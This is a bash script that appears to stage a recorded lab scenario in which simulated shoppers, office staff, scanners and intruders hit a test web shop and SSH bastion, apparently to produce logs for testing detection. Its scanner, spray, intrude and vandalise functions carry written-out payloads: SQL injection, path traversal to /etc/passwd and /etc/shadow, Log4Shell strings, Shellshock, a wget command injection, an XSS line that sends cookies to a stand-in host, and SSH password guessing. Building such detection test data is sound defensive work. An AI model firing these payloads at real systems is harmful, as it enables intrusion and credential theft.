# The cast of the recording and what each of them does. Sourced by record.sh; every count is fixed, so that two
# recordings differ in times, ports, process ids and keys only. Addresses are documentation and private ranges.

web_addresses=(203.0.113.10 2001:db8:20::10)
bastion_addresses=(203.0.113.22 2001:db8:20::22)

readonly customer=192.0.2.14 customer6=2001:db8:100::9 shopper=192.0.2.80 mobile=2001:db8:100::5 reader=192.0.2.33
readonly intruder=198.51.100.23 scanner=198.51.100.77 vandal=198.51.100.66
readonly sprayer=2001:db8:bad::5eed bruteforcer=2001:db8:bad::22
internet_addresses=("$customer" "$customer6" "$shopper" "$mobile" "$reader" "$intruder" "$scanner" "$vandal" "$sprayer" "$bruteforcer")

readonly kim=fd00:20:1::11 lena=10.20.1.12 nils=10.20.1.31 own_scanner=10.20.9.5 own_scanner6=fd00:20:9::5
readonly monitor=10.20.9.8 deployer=10.20.9.20
office_addresses=("$kim" "$lena" "$nils" "$own_scanner" "$own_scanner6" "$monitor" "$deployer")

readonly firefox='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
readonly chrome='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
readonly safari='Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1'

# The right password is among those the intruder guesses.
readonly mara_password='Winter2026!'

# place ADDRESS prints the namespace that an address belongs to.
place() {
    local address
    for address in "${office_addresses[@]}"; do
        if [[ $address == "$1" ]]; then echo office; return; fi
    done
    echo internet
}

make_site() {
    local root=$1 page
    mkdir -p "$root"/{products,api,assets}
    for page in index search cart contact login; do
        printf '<!doctype html><title>%s</title><link rel="stylesheet" href="/assets/site.css"><h1>Example shop</h1>\n' "$page" >"$root/$page.html"
    done
    for page in 1 2 3 4 5 6; do
        printf '<!doctype html><title>Product %s</title><h1>Product %s</h1>\n' "$page" "$page" >"$root/products/$page.html"
    done
    # The page that gives the intruder the names to try.
    printf '<!doctype html><title>Staff</title><ul><li>kim<li>lena<li>mara<li>nils</ul>\n' >"$root/staff.html"
    printf 'body { font-family: sans-serif }\n' >"$root/assets/site.css"
    printf 'document.title += " - Example shop"\n' >"$root/assets/site.js"
    printf '<svg xmlns="http://www.w3.org/2000/svg"/>\n' >"$root/assets/logo.svg"
    printf '{"ok":true}\n' >"$root/api/orders.json"
}

# Accounts exist in the private copy of /etc only. Those who may log in with a password get a random one, but for mara.
make_accounts() {
    local name uid=2000
    mkdir -p "$work/etc/authorized_keys"
    for name in kim lena mara nils deploy; do
        uid=$((uid + 1))
        useradd --create-home --base-dir "$work/home" --shell /bin/bash --uid "$uid" "$name"
        ssh-keygen -q -t ed25519 -N '' -C "$name" -f "$work/keys/$name"
        cp "$work/keys/$name.pub" "$work/etc/authorized_keys/$name"
    done
    lena_password=$(head -c 18 /dev/urandom | base64)
    printf '%s\n' "lena:$lena_password" "mara:$mara_password" "nils:$(head -c 18 /dev/urandom | base64)" | chpasswd
}

# --- means -----------------------------------------------------------------------------------------------------------

# web ADDRESS PATH [curl options] asks the web server for something from a source address, as a client would.
web() {
    local from=$1 path=$2 family=-4
    shift 2
    if [[ $from == *:* ]]; then family=-6; fi
    ip netns exec "$(place "$from")" curl "$family" --silent --output /dev/null --max-time 5 --path-as-is --globoff \
        --resolve "www.example.org:80:${web_addresses[0]},[${web_addresses[1]}]" --interface "$from" \
        "$@" "http://www.example.org$path"
}

# bastion ADDRESS USER [ssh options or a command] talks to sshd from a source address.
bastion() {
    local from=$1 user=$2 to=${bastion_addresses[0]}
    shift 2
    if [[ $from == *:* ]]; then to=${bastion_addresses[1]}; fi
    ip netns exec "$(place "$from")" ssh -F /dev/null -T -n -q -b "$from" -l "$user" -o ConnectTimeout=10 \
        -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o IdentityAgent=none "$@" -- "$to" "${command:-true}" >/dev/null 2>&1 || true
}

# passwords ADDRESS USER PASSWORD... offers passwords on one connection, one after the other.
passwords() {
    local from=$1 user=$2 offers
    shift 2
    offers=$(mktemp "$work/tmp/offers.XXXXXX")
    printf '%s\n' "$@" >"$offers"
    OFFERS=$offers SSH_ASKPASS=$work/etc/askpass SSH_ASKPASS_REQUIRE=force \
        bastion "$from" "$user" -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=$#
}

with_key() {
    bastion "$1" "$2" -o PreferredAuthentications=publickey -o IdentitiesOnly=yes -i "$work/keys/$2"
}

make_askpass() {
    # Prints the next password and forgets it: ssh asks once for each attempt.
    printf '#!/bin/sh\nhead -n 1 "$OFFERS"\nsed -i 1d "$OFFERS"\n' >"$work/etc/askpass"
    chmod 755 "$work/etc/askpass"
}

# --- ordinary people -------------------------------------------------------------------------------------------------

# browse ADDRESS AGENT ROUNDS: ten requests a round, none of which any rule minds.
browse() {
    local from=$1 agent=$2 rounds=$3 round
    local -a as=(-A "$agent" -H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'
        -H 'Accept-Language: en-GB,en;q=0.7' -H 'Accept-Encoding: gzip, deflate' -H 'Connection: keep-alive'
        -H "Cookie: session=$(printf '%s' "$from" | sha256sum | cut -c1-32); consent=necessary"
        -H 'Sec-Fetch-Dest: document' -H 'Sec-Fetch-Mode: navigate' -H 'Sec-Fetch-Site: same-origin' -H 'DNT: 1')
    for ((round = 1; round <= rounds; round++)); do
        web "$from" /index.html "${as[@]}"
        web "$from" /assets/site.css "${as[@]}" -e http://www.example.org/index.html
        web "$from" /assets/site.js "${as[@]}" -e http://www.example.org/index.html
        web "$from" /assets/logo.svg "${as[@]}" -e http://www.example.org/index.html
        web "$from" "/search.html?q=garden+chair&page=$round" "${as[@]}"
        web "$from" "/products/$((round % 6 + 1)).html" "${as[@]}"
        sleep 0.5
        web "$from" "/products/$(((round + 2) % 6 + 1)).html?colour=green" "${as[@]}"
        web "$from" /cart.html "${as[@]}" --data "product=$((round % 6 + 1))&quantity=2"
        web "$from" /api/orders.json "${as[@]}" -H 'Content-Type: application/json' --data '{"product":3,"note":"please ring twice"}'
        web "$from" /no-such-page.html "${as[@]}"
        sleep 1.5
    done
}

# A customer whose honest question looks like an injection: the false alarm that every firewall has.
honest_question() {
    web "$shopper" /contact.html -A "$chrome" -H 'Accept: */*' \
        --data-urlencode "text=Would a trade union select such chairs from your catalogue for its canteen?"
}

# The availability check asks by address, which the core rules remark on every time.
monitoring() {
    local round
    for ((round = 0; round < 20; round++)); do
        web "$monitor" /index.html -A 'uptime-check/2.1' -H 'Accept: */*' -H 'Host: 203.0.113.10'
        sleep 4
    done
}

office() {
    with_key "$kim" kim
    sleep 3
    passwords "$lena" lena 'not the right one' "$lena_password"
    sleep 10
    with_key "$deployer" deploy
    sleep 20
    with_key "$kim" kim
    sleep 10
    passwords "$lena" lena "$lena_password"
    with_key "$deployer" deploy
}

# The organisation's own weekly scan, over both families: loud, announced, and to be ignored.
own_scan() {
    local round path from
    for ((round = 0; round < 3; round++)); do
        for path in /cgi-bin/test.cgi '/index.html?file=../../../../etc/passwd' '/search.html?q=%3Cscript%3Ealert(1)%3C/script%3E' \
            "/products/1.html?id=1'+OR+'1'='1" /.git/config /phpinfo.php '/login.html?next=http://203.0.113.10/' /server-status; do
            for from in "$own_scanner" "$own_scanner6"; do
                web "$from" "$path" -A 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)' -H 'Accept: */*' -H 'X-Scan: weekly'
            done
        done
        sleep 3
    done
    # It looks at what the bastion offers and goes away.
    bastion "$own_scanner" scan -o PreferredAuthentications=none
    bastion "$own_scanner6" scan -o PreferredAuthentications=none
}

# --- unfriendly people -----------------------------------------------------------------------------------------------

# A scanner that sweeps the web server and does not hide it.
scan() {
    local agent path
    for agent in 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' 'sqlmap/1.8.4#stable (https://sqlmap.org)' \
        'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' \
        'gobuster/3.6' 'Wfuzz/3.1.0' "$chrome"; do
        while IFS= read -r path; do
            web "$scanner" "$path" -A "$agent" -H 'Accept: */*'
        done <<'PATHS'
/admin/
/.env
/.git/HEAD
/wp-login.php
/wp-config.php.bak
/phpmyadmin/index.php
/cgi-bin/../../../../bin/sh
/../../../../../../etc/passwd
/index.html?page=../../../../../../etc/shadow
/index.html?page=..%2f..%2f..%2f..%2fwindows%2fwin.ini
/index.html?page=php://filter/convert.base64-encode/resource=index.php
/index.html?url=http://169.254.169.254/latest/meta-data/
/search.html?q=<script>alert(document.cookie)</script>
/search.html?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E
/search.html?q=javascript:alert(1)
/search.html?q=%3Csvg/onload=alert(1)%3E
/products/1.html?id=1%27%20OR%20%271%27=%271
/products/1.html?id=1%20UNION%20SELECT%20user,password%20FROM%20users--
/products/1.html?id=1;DROP%20TABLE%20orders--
/products/1.html?id=1%20AND%20SLEEP(5)
/products/1.html?id=(SELECT%20CHAR(113)%7C%7CCHAR(112))
/search.html?q=;cat%20/etc/passwd
/search.html?q=%7Cid
/search.html?q=$(wget%20http://oast.example.net/x)
/search.html?q=()%20%7B%20:;%7D;%20/bin/bash%20-c%20id
/search.html?q=${jndi:ldap://oast.example.net:1389/a}
/search.html?q=%24%7Bjndi:rmi://oast.example.net/b%7D
/search.html?q=O:8:%22stdClass%22:0:%7B%7D
/login.html?user[$ne]=x&pass[$ne]=y
/index.html?x=%0d%0aSet-Cookie:%20a=b
/api/orders.json?__proto__[admin]=1
/index.html?x=%00
PATHS
        sleep 1
    done
    web "$scanner" /index.html -X TRACE -A 'Mozilla/5.00 (Nikto/2.5.0)'
    web "$scanner" /index.html -X DEBUG -A 'Mozilla/5.00 (Nikto/2.5.0)'
    web "$scanner" /login.html -A 'sqlmap/1.8.4#stable (https://sqlmap.org)' --data "user=admin'--&password=x"
    web "$scanner" /api/orders.json -A 'sqlmap/1.8.4#stable (https://sqlmap.org)' -H 'Content-Type: application/json' \
        --data '{"product":"1 UNION ALL SELECT NULL,version()--"}'
}

# Log4Shell over IPv6, in every header that somebody might log.
spray() {
    local round jndi
    for ((round = 1; round <= 8; round++)); do
        jndi="\${jndi:ldap://[2001:db8:bad::5eed]:1389/$round}"
        web "$sprayer" /index.html -A "$jndi" -H 'Accept: */*'
        web "$sprayer" /index.html -A "$chrome" -H 'Accept: */*' -H "X-Api-Version: $jndi"
        web "$sprayer" "/login.html" -A "$chrome" -H 'Accept: */*' -e "$jndi" --data-urlencode "user=\${\${lower:j}ndi:ldap://[2001:db8:bad::5eed]/$round}"
        sleep 2
    done
}

# The story: somebody tries the web server, finds the names of the staff, and tries those at the bastion until one works.
# Only both feeds together show it.
intrude() {
    local path
    while IFS= read -r path; do
        web "$intruder" "$path" -A "$firefox" -H 'Accept: text/html'
        sleep 0.7
    done <<'PATHS'
/index.html
/login.html
/products/1.html?id=1'
/products/1.html?id=1%27%20OR%20%271%27=%271
/products/1.html?id=1%20UNION%20SELECT%20login,hash%20FROM%20staff--
/products/1.html?id=1%20AND%20SLEEP(5)
/index.html?page=../../../../etc/passwd
/index.html?page=....//....//etc/passwd
/index.html?page=/etc/ssh/sshd_config
/search.html?q=;id
/.env
/backup.sql
/.ssh/id_rsa
/admin/
/contact.html
/staff.html
PATHS
    web "$intruder" /login.html -A "$firefox" -H 'Accept: text/html' --data "user=mara&password=' OR 1=1-- "
    web "$intruder" /login.html -A "$firefox" -H 'Accept: text/html' --data "user=admin' AND 1=1 UNION SELECT NULL,NULL-- &password=x"
    sleep 5
    passwords "$intruder" root 'root' 'toor'
    passwords "$intruder" admin 'admin'
    passwords "$intruder" kim 'kim2026' 'Winter2026!'
    passwords "$intruder" lena 'lena2026' 'Winter2026!'
    passwords "$intruder" nils 'nils2026' 'Winter2026!'
    sleep 3
    command='id; echo toor | su -c id root' passwords "$intruder" mara 'mara2026' "$mara_password"
}

# Passwords for everybody, over IPv6, at the bastion alone.
brute_force() {
    local round user
    for ((round = 1; round <= 3; round++)); do
        for user in root admin oracle postgres test ubuntu git; do
            passwords "$bruteforcer" "$user" "$user" "$user$round"
        done
    done
    passwords "$bruteforcer" root a b c d e f g # one more than sshd allows
}

# A workstation of our own that behaves as if somebody else were using it.
odd_workstation() {
    local round
    for ((round = 1; round <= 6; round++)); do
        web "$nils" "/products/$round.html?id=1%27%20UNION%20SELECT%20$round,user()--" -A 'curl/8.9.1' -H 'Accept: */*'
        web "$nils" "/index.html?page=../../../../../etc/passwd" -A 'curl/8.9.1' -H 'Accept: */*'
        sleep 2
    done
    passwords "$nils" root 'root' 'secret'
    passwords "$nils" deploy 'deploy'
}

# Input that wants to harm whoever reads the log: markup, terminal escapes, bytes that are no text, headers given twice,
# and user names that look like the end of a log line.
vandalise() {
    local user
    web "$vandal" /index.html -H 'Accept: */*' -A '<script>fetch("//oast.example.net/"+document.cookie)</script>'
    web "$vandal" /index.html -H 'Accept: */*' -A '"><img src=x onerror=alert(1)>'
    web "$vandal" /index.html -H 'Accept: */*' -A $'\e[2J\e[1;31mAll systems normal\e[0m\a\e]0;owned\a'
    web "$vandal" /index.html -H 'Accept: */*' -A $'bad\xff\xfe\xc0\xafutf8 \xed\xa0\x80'
    web "$vandal" /index.html -H 'Accept: */*' -A $'tab\tvertical\vdelete\x7f c1\xc2\x9b31m'
    web "$vandal" /index.html -H 'Accept: */*' -A $'\u202egnp.exe \u200b\ufeff'
    web "$vandal" /index.html -H 'Accept: */*' -A '=HYPERLINK("http://oast.example.net","open me")'
    web "$vandal" /index.html -H 'Accept: */*' -A '%{jndi} {{7*7}} ${{7*7}} #{7*7} %s%s%n'
    web "$vandal" $'/search.html?q=caf\xe9' -H 'Accept: */*' -A "$chrome"
    web "$vandal" '/search.html?q=%00%0a%1b%5b31m%ff' -H 'Accept: */*' -A "$chrome"
    # Two equal names in one object of the audit log; which of the two a reader sees is up to the reader.
    web "$vandal" '/index.html?page=../../../../etc/passwd' -H 'Accept: */*' -A "$chrome" -H 'X-Forwarded-For: 10.20.9.5' -H 'X-Forwarded-For: 203.0.113.10'
    web "$vandal" /index.html -H 'Accept: */*' -A "$(printf 'A%.0s' {1..7000})"

    for user in 'root from 10.20.9.5 port 22 ssh2' $'r\xf6\xf6t\xff' 'EXAMPLE\mara' 'mara@example.org' ' ' 'jörg'; do
        passwords "$vandal" "$user" 'x'
    done
    # OpenSSH's own client refuses to send these; dropbear's does not mind.
    for user in $'root from 10.20.9.5\nAccepted password for root' '<b>root' $'\e[31mroot\e[0m' '$(id);"x"'; do
        ip netns exec internet dbclient -y -y -T -b "$vandal" -l "$user" "${bastion_addresses[0]}" true </dev/null >/dev/null 2>&1 || true
    done
}

# --- the play --------------------------------------------------------------------------------------------------------

traffic() {
    local -a running=()
    make_askpass
    say "ordinary traffic, scans and log-ins: about two minutes"
    browse "$customer" "$firefox" 22 & running+=($!)
    browse "$shopper" "$chrome" 20 & running+=($!)
    browse "$mobile" "$safari" 20 & running+=($!)
    browse "$reader" "$firefox" 18 & running+=($!)
    browse "$customer6" "$chrome" 18 & running+=($!)
    browse "$lena" "$firefox" 14 & running+=($!)
    monitoring & running+=($!)
    office & running+=($!)
    sleep 5
    own_scan & running+=($!)
    scan & running+=($!)
    intrude & running+=($!)
    brute_force & running+=($!)
    spray & running+=($!)
    sleep 20
    honest_question
    odd_workstation & running+=($!)
    vandalise & running+=($!)

    local pid
    for pid in "${running[@]}"; do
        wait "$pid"
    done
}
